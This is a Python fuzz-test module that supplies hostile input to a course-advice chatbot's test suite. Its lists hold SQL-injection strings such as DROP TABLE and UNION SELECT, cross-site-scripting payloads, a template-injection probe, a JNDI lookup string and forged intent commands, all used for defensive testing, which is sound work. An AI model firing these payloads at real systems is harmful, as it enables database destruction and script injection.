"""Hostile input for the fuzz tests (hypothesis strategies), shared by every channel's fuzzing.

``hostile``: message texts a visitor could type or a script could send: random and control
characters, SQL and markup injections after real questions, texts of 20,000-100,000
characters, and forged ``/intent{...}`` commands. ``json_values``: any JSON value, nested.
"""

from __future__ import annotations

import json

from hypothesis import strategies as st

INTENTS = [
    "greet",
    "affirm",
    "deny",
    "ask_role_description",
    "inform_experience",
    "ask_course_recommendation",
    "ask_course_details",
    "ask_training_options",
    "request_human",
    "provide_details",
    "cancel_request",
    "out_of_scope",
    "nlu_fallback",
    "restart",
    "session_start",
    "back",
    "no_such_intent",
    "DROP TABLE",
]
KEYS = [
    "role",
    "course",
    "experience",
    "years",
    "other_role",
    "awaiting_level",
    "pmo_level",
    "recommended_course",
    "enquiry_email",
    "enquiry_consent",
    "enquiry_topic",
    "requested_slot",
    "unknown",
    "",
]

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)

forged = st.builds(
    lambda intent, entities, tail: f"/{intent}{json.dumps(entities) if entities is not None else ''}{tail}",
    st.sampled_from(INTENTS) | st.text(max_size=15),
    st.none() | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=10), json_values, max_size=4),
    st.sampled_from(["", "@0.99", "@-5", "{", "}", '{"role":', "\x00"]),
)

SQL = [
    "'; DROP TABLE events; --",
    "Robert'); DROP TABLE enquiries;--",
    "1 OR 1=1",
    "' UNION SELECT * FROM enquiries --",
    "%' AND sleep(5) --",
    "admin'--",
    '"; DELETE FROM events WHERE 1=1; --',
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    "<svg/onload=alert(1)>",
]
WORDS = [
    "what does a pmo analyst do",
    "can I talk to someone",
    "jane@acme.co.uk",
    "cancel",
    "yes",
    "no",
    "I want to book",
    "which course is right for me",
    "skip",
    "12",
]

hostile = st.one_of(
    st.text(max_size=300),
    st.text(st.characters(whitelist_categories=("Cc", "Cf", "Zl", "Zp", "Co", "Mn")), max_size=60),
    st.builds(lambda a, b, c: a + b + c, st.sampled_from(WORDS), st.text(max_size=20), st.sampled_from(SQL + MARKUP)),
    st.builds(
        lambda unit, n: unit * n,
        st.sampled_from(["a", "é", "🙂", "<b>", "'; --", "\u202e", "\x00"]),
        st.integers(min_value=20_000, max_value=100_000),
    ),
    st.sampled_from(SQL + MARKUP),
    forged,
)


def is_command(text: str) -> bool:
    """A forged ``/intent`` command: Rasa may legitimately say nothing to one (``/restart``)."""
    return text.lstrip().startswith("/")
